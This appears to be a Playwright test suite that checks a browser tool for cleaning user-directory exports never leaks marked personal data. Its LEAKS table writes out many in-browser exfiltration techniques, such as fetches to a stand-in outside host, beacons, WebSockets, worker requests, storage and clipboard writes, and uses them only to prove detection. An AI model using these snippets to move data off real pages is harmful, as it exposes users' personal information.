// Nobody's data leaves the page, by whatever way: a whole journey with marked data, in all three places, everything listened to.
import { readdir, readFile, writeFile } from "node:fs/promises";
import path from "node:path";
import { pathToFileURL } from "node:url";
import { test as base, chromium, expect } from "@playwright/test";
import { causeOf, download, edit, exports, headline, list, people, records, redo, region, step, tree, undo } from "./page.mjs";
import { STRICT } from "./host.mjs";
import { policy, serve } from "./site.mjs";
import { DIGITS, MARK, marked, watch } from "./watch.mjs";

const { ROLLCALL_SITE, ROLLCALL_SINGLE } = process.env;
const Mark = MARK[0].toUpperCase() + MARK.slice(1);

/// An export in which every value that a person has is marked, so are a column, a group and the file's name.
const HEAD = `id,login,firstName,lastName,email,secondEmail,title,primaryPhone,countryCode,state,locale,timezone,managerEmail,groups,${MARK}Column`;
const person = (name, { domain = "acme.com", manager = "", country = "US", state = "NY", locale = "en_US", zone = "America/New_York", groups = "Sales" } = {}) => {
  const own = `${name}.${MARK}`;
  return `00u${MARK}${name},${own}@acme.com,${name}${MARK},${Mark}son,${own}@${domain},${own}@home.example,${Mark} of ${name},865${DIGITS},${country},${state},${locale},${zone},${manager},"${groups};${MARK} group",${MARK}-${name}`;
};
const users = (...more) =>
  [
    HEAD,
    person("ana"),
    person("bo", { domain: `${MARK}.example`, manager: `ana.${MARK}@acme.com` }),
    person("cy", { country: `${Mark}land`, state: `${Mark}state`, locale: `${MARK}_XX`, zone: `${Mark}/City`, manager: `nobody.${MARK}@acme.com` }),
    person("di", { zone: "-05:00", manager: `cy.${MARK}@acme.com`, groups: "Leads" }),
    ...more,
    "",
  ].join("\r\n");
const file = (name, text) => ({ name, mimeType: "application/octet-stream", buffer: Buffer.from(text) });

/// Chrome itself asks its maker what to fill into fields, by hashes of their names. No page can see or stop that.
const BROWSER = "content-autofill.googleapis.com:443";

/// Pages of the host's own: one around the element, and one that anything may be done in.
const PAGES = {
  "host.html": { own: STRICT, head: '<script type="module" src="/define.js"></script>', body: '<h1>Integrations</h1><roll-call primary-domain="acme.com" default-time-zone="America/New_York"></roll-call>' },
  "bare.html": { own: "", head: "", body: "<h1>Bare</h1>" },
};

const test = base.extend({
  host: async ({}, use) => {
    // Of what a policy refuses the host is told, by the browser itself: of a worker, too.
    const told = (policy) => ({ "Content-Security-Policy": policy && `${policy}; report-uri /told` });
    const answer = (name) => {
      if (!Object.hasOwn(PAGES, name)) return { headers: told(policy) };
      const { own, head, body } = PAGES[name];
      const html = `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Integrations</title><link rel="icon" href="/icon.svg">${head}</head><body>${body}</body></html>`;
      return { body: html, headers: { "Content-Type": "text/html; charset=utf-8", ...told(own) } };
    };
    const host = await serve({ answer });
    await use(host);
    await host.close();
  },
  /// A browser whose every word to the network goes through the host, to whomever it is meant.
  context: async ({ browser, host }, use) => {
    const proxy = { server: new URL(host.address).origin, bypass: "<-loopback>" };
    const context = await browser.newContext({ serviceWorkers: "allow", proxy });
    await use(context);
    await context.close();
  },
  heard: async ({ context }, use) => use(await watch(context)),
});

/// Takes away what a button gives, and looks that it is what the admin wanted: there the marks may stand, and mostly do.
async function take(page, name, { isMarked = true } = {}) {
  const { bytes } = await download(page, name);
  expect(marked(bytes.toString("latin1")), name).toBe(isMarked);
}

/// Uses all that the page has. `place` says where it stands.
async function journey(page, heard, place, info) {
  const look = () => heard.look(page);
  const embedded = place === "element";
  await page.getByLabel("Primary domain").fill("acme.com");
  await page.getByLabel("Default time zone").fill("America/New_York");

  // Files that cannot be read, or are none.
  await exports(page).setInputFiles(file(`${MARK}-broken.json`, `{"value":[{"mail":"${MARK}@acme.com", ${MARK}`));
  await expect(headline(page)).toContainText("No file could be read");
  await page.getByRole("button", { name: /^Remove .*broken/ }).click();

  // Dropped, as a file is; from a disk, so that it can change under the page.
  const disk = info.outputPath(`${MARK}-users.csv`);
  await writeFile(disk, users());
  const team = info.outputPath(`${Mark} team.csv`);
  await writeFile(team, `id,login,firstName,lastName,status\r\n00u${MARK}bo,bo.${MARK}@acme.com,bo${MARK},${Mark}son,ACTIVE\r\n`);
  await exports(page).setInputFiles([disk, team]);
  await expect(headline(page)).toContainText("of 4 people arrive");
  await look();
  await step(page, "Files").click();
  for (const more of await region(page, "Files").locator("details > summary").all()) await more.click();
  await page.getByLabel(`Group of ${Mark} team.csv`).fill(`${MARK} night`);
  await page.getByLabel(`Group of ${Mark} team.csv`).press("Enter");
  await page.getByLabel("People already in Gong", { exact: true }).setInputFiles(file(`${MARK}-gong.csv`, `Name,Email\n${MARK} Old,old.${MARK}@acme.com\n`));
  await expect(region(page, "Files")).toContainText("1 person in Gong");

  // Review: filters, a text that is looked for, findings, a person.
  await step(page, "Review").click();
  await region(page, "Review").getByRole("button", { name: /^Show \d/ }).first().click();
  await page.getByRole("button", { name: "Clear filter" }).first().click();
  await page.getByLabel("Find by name or email").fill(`bo.${MARK}`);
  await expect(page.getByText("of 1 person")).toBeVisible();
  await page.getByRole("button", { name: "Clear filter" }).first().click();
  await records(page).focus();
  await page.keyboard.press("Enter");
  const panel = page.getByRole("complementary");
  await expect(panel).toContainText(MARK);
  await page.keyboard.press("Escape");
  await page.keyboard.press("F8");
  await expect(page.locator("#sheet-bar")).toContainText(MARK);

  // Cured by hand, by a cause, taken back and done again.
  await edit(page, `bo${MARK}`, "email", `bo2.${MARK}@acme.com`);
  await edit(page, `cy${MARK}`, `${MARK}Column`, `${MARK} typed`);
  await causeOf(page, /locale/i).first().getByRole("button", { name: "Fix all…" }).click();
  await page.getByRole("dialog").getByRole("button", { name: /^Apply/ }).click();
  await expect(page.getByRole("dialog")).toHaveCount(0);
  await undo(page).click();
  await redo(page).click();
  await look();

  // Time zones, the list, the tree.
  await step(page, "Time zones").click();
  await page.getByLabel("Try another default").fill(`${MARK}/zone`);
  await page.getByLabel("Try another default").fill("Europe/London");
  await expect(region(page, "Time zones")).toContainText("to Europe/London");
  await step(page, "People").click();
  await page.getByLabel("Find in the hierarchy").fill(`di.${MARK}`);
  await expect(tree(page)).toContainText(`di${MARK}`);
  await tree(page).focus();
  await page.keyboard.press("Enter");
  await expect(panel).toContainText(`${MARK}`);
  await page.getByRole("radio", { name: "List" }).check();
  await page.getByLabel("Find by name or email").fill(`cy.${MARK}`);
  await expect(people(page)).toHaveCount(1);
  await page.getByRole("button", { name: "Clear filter" }).click();
  await expect(list(page)).toContainText(MARK);
  await look();

  // Assignments: a group of the file is typed by the admin, and is the admin's then; this one has no mark.
  await step(page, "Assignments").click();
  await page.getByRole("button", { name: "Add assignment" }).click();
  await page.getByLabel("Assignment name").fill("Sellers");
  await page.getByLabel("New group").fill("Sales");
  await page.getByLabel("New group").press("Enter");
  await expect(region(page, "Assignments")).toContainText("Sellers");
  await page.getByLabel("Open settings file").setInputFiles(file(`${MARK}-settings.json`, `{"format":"rollcall-settings","formatVersion":1,"scope":"${MARK}"}`));
  await expect(page.getByText(`${MARK}-settings.json`).first()).toBeVisible();
  await take(page, "Save", { isMarked: false });

  // The plan.
  await step(page, "Plan").click();
  await page.getByLabel("Earlier exports").setInputFiles([file(`${MARK}-before.csv`, users(person("gone"))), file(`${MARK}-no.html`, `<!doctype html><title>${MARK}</title>`)]);
  await expect(region(page, "Plan")).toContainText("Not read.");
  await page.getByLabel("Find in the plan by name or email").fill(`gone.${MARK}`);
  const planned = region(page, "People of the plan");
  await expect(planned).toContainText(`gone${MARK}`);
  await planned.locator("summary").first().click();
  await take(page, "Download plan");
  await take(page, "Download SCIM requests");

  // Everything that is taken away.
  await step(page, "Take away").click();
  await take(page, `Download ${MARK}-users.csv`);
  await take(page, "Download corrected export");
  for (const format of await page.getByLabel("Format of the findings").getByRole("option").allTextContents()) {
    await page.getByLabel("Format of the findings").selectOption(format);
    await take(page, "Download findings");
  }
  await take(page, "Download report");
  await take(page, "Download recipe");
  await take(page, "Download Okta import");
  await take(page, "Download PowerShell lines");
  await page.getByLabel("Recipe", { exact: true }).setInputFiles(file(`${MARK}-recipe.json`, `{"format":"rollcall-recipe","formatVersion":1,"steps":[{"person":{"id":"${MARK}"},"attribute":"${MARK}"}]}`));
  await expect(region(page, "Take away").getByRole("alert").first()).toContainText(MARK);
  // Names of columns stay in a redacted export, and so do country, state, locale and time zone.
  const [redacted] = await Promise.all([page.waitForEvent("download"), page.getByRole("button", { name: "Download redacted export" }).click()]);
  const [head, ...rows] = (await readFile(await redacted.path(), "utf8")).trim().split("\r\n");
  const cells = rows.map((row) => row.split(",").filter((_, at) => !["countryCode", "state", "locale", "timezone"].includes(head.split(",")[at])));
  expect([cells.length, marked(head), marked(cells.join("\n"))]).toEqual([4, true, false]);
  if (!embedded) {
    // Printing shows it to the admin.
    await page.evaluate(() => {
      globalThis.print = () => {
        globalThis.printed = true;
      };
    });
    await page.getByRole("button", { name: "Print the causes" }).click();
    await expect.poll(() => page.evaluate(() => globalThis.printed ?? false)).toBe(true);
  }
  await look();
  // What was taken away is offered once more, and lies over the list.
  const offers = page.locator(".offer").getByRole("button", { name: "Dismiss" });
  for (let left = await offers.count(); left > 0; left -= 1) {
    await offers.first().click();
    await expect(offers).toHaveCount(left - 1);
  }

  // The file changes on the disk: what cannot be read any more is said to the admin alone.
  await writeFile(disk, `${MARK} is not what it was`);
  await step(page, "People").click();
  await page.getByRole("radio", { name: "List" }).check();
  await people(page).first().click();
  await expect(page.getByText(/changed, moved or locked/).first()).toBeVisible();
  // A worker that dies takes nothing along.
  await page.workers()[0].evaluate((mark) => setTimeout(() => { throw new Error(`on purpose ${mark.length}`); }), MARK);
  await expect(page.getByRole("alert").first()).toContainText(/started again|No file/);

  // All again from the start: the files go, others come, and the page is loaded anew.
  await step(page, "Files").click();
  const files = region(page, "Files").getByRole("button", { name: /^Remove / });
  for (let left = await files.count(); left > 0; left -= 1) {
    await files.first().click();
    await expect(files).toHaveCount(left - 1);
  }
  await exports(page).setInputFiles(file(`${MARK}-second.csv`, users()));
  await expect(headline(page)).toContainText("of 4 people arrive");
  await look();
  await page.goBack();
  await page.goForward();
  await page.reload();
  await expect(exports(page)).toBeVisible();
  await look();
}

/// What is true after any journey.
function nothingLeft(heard, host) {
  const sent = host.heard.filter(([method, url]) => !(method === "connect" && url === BROWSER));
  for (const words of sent) heard.hear("network", words.join(" "));
  expect(heard.leaks()).toEqual([]);
  for (const way of ["violation", "beacon", "broadcast", "connection", "window", "cookie", "database", "disk", "clipboard", "performance", "share", "message"]) {
    expect(heard.of(way), way).toEqual([]);
  }
  // The worker that died did so on purpose.
  expect([...heard.of("console"), ...heard.of("error")].filter((text) => !text.includes("on purpose"))).toEqual([]);
  const dialogs = heard.of("dialog");
  expect(dialogs.filter((text) => !text.startsWith("beforeunload"))).toEqual([]);
  expect(sent.filter(([method]) => method !== "GET")).toEqual([]);
  return new Set(sent.map(([, url]) => new URL(url, host.address).origin));
}

for (const place of ["page", "file", "element"]) {
  test(`nothing of a file leaves the ${place}`, async ({ context, host, heard }, info) => {
    const page = await context.newPage();
    await page.goto({ page: host.address, file: pathToFileURL(ROLLCALL_SINGLE).href, element: `${host.address}host.html` }[place]);
    await expect(exports(page)).toBeVisible();
    if (place === "page") await expect.poll(() => page.evaluate(() => navigator.serviceWorker.controller?.state)).toBe("activated");
    await journey(page, heard, place, info);
    const asked = nothingLeft(heard, host);
    expect([...asked]).toEqual(place === "file" ? [] : [new URL(host.address).origin]);

    // It was heard all the time.
    expect(heard.of("storage").join()).toContain("acme.com");
    expect(heard.of("kept local").at(-1)).toContain("Sellers");
    expect(heard.of("kept local").at(-1)).toContain("Sales");
    if (place === "page") expect(heard.of("kept caches").at(-1)).toContain("app_bg.wasm");
    if (place === "element") expect(heard.of("event").filter((text) => text.startsWith("rollcall-checked")).length).toBeGreaterThan(1);
  });
}

/// Names of the files of a folder that hold the mark.
async function filesWith(folder, mark) {
  const found = [];
  for (const entry of await readdir(folder, { recursive: true, withFileTypes: true })) {
    if (!entry.isFile()) continue;
    const name = path.join(entry.parentPath, entry.name);
    const bytes = await readFile(name);
    if (bytes.includes(mark) || bytes.includes(Buffer.from(mark, "utf16le"))) found.push(path.relative(folder, name));
  }
  return found;
}

test("nothing of a file lies on the disk when the browser is closed", async ({ host }, info) => {
  const profile = info.outputPath("profile");
  const browser = await chromium.launchPersistentContext(profile, { ...info.project.use.launchOptions, serviceWorkers: "allow" });
  const page = await browser.newPage();
  await page.goto(host.address);
  await page.getByLabel("Primary domain").fill("domain-to-keep.example");
  await exports(page).setInputFiles(file(`${MARK}-users.csv`, users()));
  await expect(headline(page)).toContainText("of 4 people arrive");
  // What is typed is what a browser likes to remember.
  await page.getByLabel("Find by name or email").pressSequentially(`bo.${MARK}`);
  await expect(page.getByText("of 1 person")).toBeVisible();
  await edit(page, `bo${MARK}`, "title", `${Mark} the First`);
  await step(page, "People").click();
  await page.getByLabel("Find in the hierarchy").fill(`di.${MARK}`);
  await page.getByLabel("Find in the hierarchy").press("Enter");
  await expect(tree(page)).toContainText(`di${MARK}`);
  await step(page, "Plan").click();
  await page.getByLabel("Find in the plan by name or email").fill(`ana.${MARK}`);
  await expect(region(page, "People of the plan")).toContainText(`ana${MARK}`);
  await page.goBack();
  await browser.close();
  expect(await filesWith(profile, MARK)).toEqual([]);
  // What may be kept is found there.
  expect((await filesWith(profile, "domain-to-keep")).length).toBeGreaterThan(0);
});

/// Ways to leak, each of which is noticed. Where the page's policy stands before one, it is tried without.
const LEAKS = {
  request: (mark) => fetch(`/bare.html?${mark}`),
  "request with a body": (mark) => fetch("/bare.html", { method: "POST", body: new TextEncoder().encode(mark) }),
  "request in base64": (mark) => fetch(`/bare.html?${btoa(`x${mark}`)}`),
  "request from right to left": (mark) => fetch(`/${[...mark].reverse().join("")}`),
  "request with a header": (mark) => fetch("/bare.html", { headers: { "X-Who": mark } }),
  "request to somebody else": (mark) => fetch(`http://elsewhere.example/${mark}`, { mode: "no-cors" }),
  image: (mark) => Object.assign(new Image(), { src: `/${mark}.png` }),
  beacon: (mark) => navigator.sendBeacon("/bare.html", mark),
  socket: (mark) => void new WebSocket(`ws://127.0.0.1:1/${mark}`),
  "request of a worker": (mark) =>
    new Promise((resolve) => {
      const worker = new Worker(URL.createObjectURL(new Blob([`fetch("${location.origin}/bare.html?${mark}").finally(() => postMessage(1))`])));
      worker.onmessage = resolve;
    }),
  "word of a worker on the console": (mark) =>
    new Promise((resolve) => {
      const worker = new Worker(URL.createObjectURL(new Blob([`console.log("${mark}"); postMessage(1)`])));
      worker.onmessage = resolve;
    }),
  storage: (mark) => localStorage.setItem("rollcall", mark),
  "storage that is emptied again": (mark) => {
    sessionStorage.setItem(mark, "1");
    sessionStorage.clear();
  },
  "storage without a call": (mark) => void (sessionStorage.who = mark),
  database: (mark) =>
    new Promise((resolve, reject) => {
      const open = indexedDB.open("people");
      open.onerror = reject;
      open.onupgradeneeded = () => open.result.createObjectStore("people");
      open.onsuccess = () => {
        open.result.transaction("people", "readwrite").objectStore("people").put(mark, 1);
        open.result.close();
        resolve();
      };
    }),
  cache: async (mark) => (await caches.open("rollcall")).put("/who", new Response(mark)),
  cookie: (mark) => void (document.cookie = `who=${mark}`),
  "private disk": async (mark) => void (await (await navigator.storage.getDirectory()).getFileHandle(mark, { create: true })),
  address: (mark) => void (location.hash = mark),
  history: (mark) => history.pushState({ who: mark }, ""),
  title: (mark) => void (document.title = mark),
  name: (mark) => void (globalThis.name = mark),
  console: (mark) => console.debug(mark),
  event: (mark) => document.body.dispatchEvent(new CustomEvent("rollcall-checked", { detail: { who: [mark] } })),
  "event with a number": () => document.body.dispatchEvent(new CustomEvent("rollcall-checked", { detail: { phone: "+1 865 739-1864" } })),
  message: (mark) => postMessage({ who: mark }, location.origin),
  broadcast: (mark) => new BroadcastChannel("rollcall").postMessage(mark),
  error: (mark) => void setTimeout(() => { throw new Error(mark); }),
  rejection: (mark) => void Promise.reject(new TypeError(mark)),
  performance: (mark) => void performance.mark(mark),
  clipboard: (mark) => void navigator.clipboard.writeText(mark).catch(() => {}),
};

test("a leak by any way is heard", async ({ context, host, heard }) => {
  for (const [way, leak] of Object.entries(LEAKS)) {
    const page = await context.newPage();
    await page.goto(`${host.address}bare.html`);
    const before = [heard.heard.length, host.heard.length];
    await page.evaluate(`(${leak})(${JSON.stringify(MARK)})`).catch(() => {});
    const leaked = async () => {
      const sent = host.heard.slice(before[1]).map((words) => words.join(" "));
      return [...heard.heard.slice(before[0]).map(({ text }) => text), ...sent].some(marked);
    };
    // Some lie there and are found by who looks.
    if (!(await leaked())) await heard.look(page);
    await expect.poll(leaked, way).toBe(true);
    // What one left must not be what the next is heard by.
    await page.evaluate(async () => {
      const disk = await navigator.storage.getDirectory();
      await Promise.all([localStorage.clear(), sessionStorage.clear(), indexedDB.deleteDatabase("people"), globalThis.caches.delete("rollcall")]);
      for await (const name of disk.keys()) await disk.removeEntry(name);
    });
    await context.clearCookies();
    await page.close();
  }
});

test("what the policy refuses is heard, in the page and in its worker", async ({ context, host, heard }) => {
  const page = await context.newPage();
  await page.goto(host.address);
  await exports(page).setInputFiles(file("users.csv", users()));
  await expect(headline(page)).toContainText("arrive");
  await page.evaluate(() => fetch("http://elsewhere.example/").catch(() => {}));
  await expect.poll(() => heard.of("violation").join()).toContain("connect-src http://elsewhere.example/");
  await page.evaluate(() => {
    try {
      document.body.innerHTML = "<b>x</b>";
    } catch {}
  });
  await expect.poll(() => heard.of("violation").join()).toContain("require-trusted-types-for");
  await page.workers()[0].evaluate(() => fetch("http://nowhere.example/").catch(() => {}));
  await expect.poll(() => heard.of("console").join()).toContain("refused in a worker: connect-src http://nowhere.example/");
  await expect.poll(() => host.heard.filter(([method]) => method === "POST").join()).toContain("http://nowhere.example/");
  expect(host.heard.filter(([, url]) => /^http:..(else|no)where/.test(url))).toEqual([]);
});
